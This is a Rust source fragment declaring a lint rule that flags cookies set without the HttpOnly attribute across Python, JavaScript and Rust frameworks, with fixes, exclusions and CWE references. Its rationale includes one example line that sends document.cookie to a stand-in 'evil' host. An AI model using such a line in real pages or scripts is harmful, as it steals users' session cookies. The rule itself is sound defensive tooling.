crate::declare_rule! {
    /// ## What it does
    /// Flags session-like or unnamed cookies set without the `HttpOnly` attribute (or with it
    /// explicitly off): Python `set_cookie(...)` without `httponly=True`, Django/Flask
    /// `SESSION_COOKIE_HTTPONLY = False`; Express `res.cookie(..)`, Fastify `reply.setCookie(..)`,
    /// Next.js `cookies().set(..)` without `httpOnly: true`, `express-session`/`cookie-session`
    /// or Koa with `httpOnly: false`, and session-like cookies written from JavaScript with
    /// `document.cookie` or js-cookie `Cookies.set(..)` (which can never be HttpOnly), Hono
    /// `setCookie(c, ..)`; Rust `Cookie::build(..)`/`Cookie::new(..)`
    /// without `.http_only(true)`.
    ///
    /// ## Why is this bad?
    /// Without `HttpOnly`, any script on the page can read the cookie: a single XSS bug becomes a
    /// stolen session (`fetch("https://evil/?c=" + document.cookie)`).
    ///
    /// ## Example
    /// ```python
    /// resp.set_cookie("session", token, secure=True, samesite="Lax")
    /// ```
    /// ```ts
    /// res.cookie("token", jwt, { secure: true, sameSite: "strict" });
    /// ```
    ///
    /// ## Use instead
    /// ```python
    /// resp.set_cookie("session", token, secure=True, samesite="Lax", httponly=True)
    /// ```
    /// ```ts
    /// res.cookie("token", jwt, { secure: true, sameSite: "strict", httpOnly: true });
    /// ```
    ///
    /// ## How to fix
    /// Add `httponly=True` (Python), `httpOnly: true` (JS) or `.http_only(true)` (Rust). Set the
    /// session cookie from the server, never from `document.cookie`.
    ///
    /// ## Not flagged
    /// Cookies whose constant name is clearly not a credential (`theme`, `lang`) and CSRF cookies
    /// (double-submit patterns need scripts to read them),
    /// Python `set_cookie` with a constant value under a name that is not a session/CSRF name
    /// (`set_cookie(key, "done")`: the same for every visitor, nothing to steal),
    /// flags set from variables or
    /// configuration, `**kwargs`/spread options, frameworks that default to HttpOnly
    /// (`express-session`, `cookie-session`, Koa, Rocket) unless turned off, and test code.
    ///
    /// ## References
    /// - CWE-1004: Sensitive Cookie Without 'HttpOnly' Flag
    /// - OWASP Session Management Cheat Sheet
    pub COOKIE_MISSING_HTTPONLY {
        id: "cookie-missing-httponly",
        title: "Cookie set without the HttpOnly attribute",
        severity: Medium,
        confidence: Medium,
        cwe: [1004],
        checklist: 12,
        languages: [Rust, JavaScript, TypeScript, Python],
        fix: Sometimes,
    }
}
